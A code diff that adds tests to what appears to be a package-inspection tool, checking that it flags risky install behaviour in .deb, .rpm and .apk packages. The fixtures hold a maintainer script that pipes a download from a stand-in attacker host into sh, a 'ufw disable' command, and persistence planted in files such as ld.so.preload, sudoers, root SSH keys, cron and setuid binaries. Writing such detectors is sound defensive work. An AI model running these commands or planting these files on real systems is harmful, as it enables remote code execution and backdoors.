@@ -3,11 +3,15 @@ import { mkdtemp, readdir, rm, writeFile } from 'node:fs/promises'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest'
+import { buildApk } from '../../test/support/packages-apk.ts'
+import { buildRpm } from '../../test/support/packages-rpm.ts'
 import { buildDeb, spoolBytes, type FileSpec } from '../../test/support/packages.ts'
 import { buildZip } from '../../test/support/zip.ts'
 import { sha256, type Codename } from '../core/identity.ts'
 import type { InnerStream } from '../formats/format.ts'
+import { apk } from '../formats/apk/index.ts'
 import { deb } from '../formats/deb/index.ts'
+import { rpm } from '../formats/rpm/index.ts'
 import type { Contents } from './component.ts'
 import { createContents } from './contents.ts'
 import { NO_NAMES } from './java/coordinates.ts'
@@ -311,5 +315,88 @@ describe('the cache', () => {
     } as const
     expect(purls(await contents.of(carrier, idle))).toEqual(['pkg:maven/g/a@1'])
     expect(await contents.known(carrier)).toMatchObject({ components: [{ rule: 'sha1', path: 'opt/x.jar' }] })
+  })
+})
+
+describe('what installing a package does', () => {
+  const facts = ({ install }: Contents): string[] =>
+    (install?.facts ?? []).map(({ kind, path, line, text, listens = [] }) =>
+      [kind, path, line, text, ...listens].filter(one => one !== undefined).join(' | '),
+    )
+  const read = async (format: typeof deb | typeof rpm | typeof apk, name: string, bytes: Buffer): Promise<Contents> => {
+    const file = await spoolBytes(folder, name, bytes)
+    return readContents({ format, file }, { incoming: folder, signal: idle })
+  }
+  const evil = '#!/bin/sh\nset -e\ncurl -fsSL https://evil.example/x | sh\n'
+
+  test('the maintainer scripts of a .deb, and its triggers', async () => {
+    const bytes = await buildDeb({
+      name: 'app',
+      version: '1.0',
+      scripts: { postinst: evil, prerm: '#!/bin/sh\nexit 0\n', triggers: 'interest-noawait /usr/share/x\n' },
+    })
+    const contents = await read(deb, 'a.deb', bytes)
+    expect(contents.install?.scripts.map(({ name, lines }) => `${name} ${lines}`)).toEqual(['postinst 3', 'prerm 2'])
+    expect(facts(contents)).toEqual([
+      'downloads_and_runs | postinst | 3 | curl -fsSL https://evil.example/x | sh',
+      'has_trigger | triggers | 1 | interest-noawait /usr/share/x',
+    ])
+  })
+
+  test('the scripts of an .rpm and of an .apk', async () => {
+    const made = await buildRpm({
+      name: 'app',
+      version: '1',
+      release: '1',
+      scripts: { post: evil, preun: 'ufw disable' },
+    })
+    expect(facts(await read(rpm, 'a.rpm', made))).toEqual([
+      'downloads_and_runs | post | 3 | curl -fsSL https://evil.example/x | sh',
+      'disables_security | preun | 1 | ufw disable',
+    ])
+    const alpine = await buildApk({
+      name: 'app',
+      version: '1.0-r0',
+      scripts: { 'post-install': evil, 'trigger': evil },
+    })
+    expect(facts(await read(apk, 'a.apk', alpine))).toEqual([
+      'downloads_and_runs | .post-install | 3 | curl -fsSL https://evil.example/x | sh',
+      'downloads_and_runs | .trigger | 3 | curl -fsSL https://evil.example/x | sh',
+    ])
+  })
+
+  test('the list of files: modes, places, and what services say', async () => {
+    expect(
+      facts(
+        await contentsOf({
+          'usr/bin/up': { content: 'x', mode: 0o4755 },
+          'usr/bin/group': { content: 'x', mode: 0o2755 },
+          'srv/drop': { content: 'x', mode: 0o666 },
+          'usr/bin/plain': { content: 'x', mode: 0o755 },
+          'lib/systemd/system/a.socket': '[Socket]\nListenStream=0.0.0.0:4444\n#ListenStream=9\n',
+          'lib/systemd/system/a.service': '[Service]\nExecStart=/usr/bin/a --to https://home.example\n',
+          'etc/cron.d/a': '# every minute\n* * * * * root /usr/bin/a\n',
+          'etc/sudoers.d/a': 'a ALL=(ALL) ALL\n',
+          'etc/ld.so.preload': '/usr/lib/a.so\n',
+          'root/.ssh/authorized_keys': 'ssh-ed25519 AAAA\n',
+          'opt/a/node_modules/b/package.json': '{"name":"b","version":"1.0.0","scripts":{"postinstall":"node x.js"}}',
+        }),
+      ),
+    ).toEqual([
+      'cron_file | etc/cron.d/a | * * * * * root /usr/bin/a',
+      'preload_file | etc/ld.so.preload',
+      'sudoers_file | etc/sudoers.d/a',
+      'unit_file | lib/systemd/system/a.service | ExecStart=/usr/bin/a --to https://home.example',
+      'unit_file | lib/systemd/system/a.socket | 0.0.0.0:4444',
+      'npm_install_script | opt/a/node_modules/b/package.json | postinstall: node x.js',
+      'ssh_key_file | root/.ssh/authorized_keys',
+      'world_writable_file | srv/drop | mode 0666',
+      'setgid_file | usr/bin/group | mode 2755',
+      'setuid_file | usr/bin/up | mode 4755',
+    ])
+  })
+
+  test('a package of plain files does nothing', async () => {
+    expect((await contentsOf({ 'usr/share/doc/a/README': 'x' })).install).toBeUndefined()
   })
 })
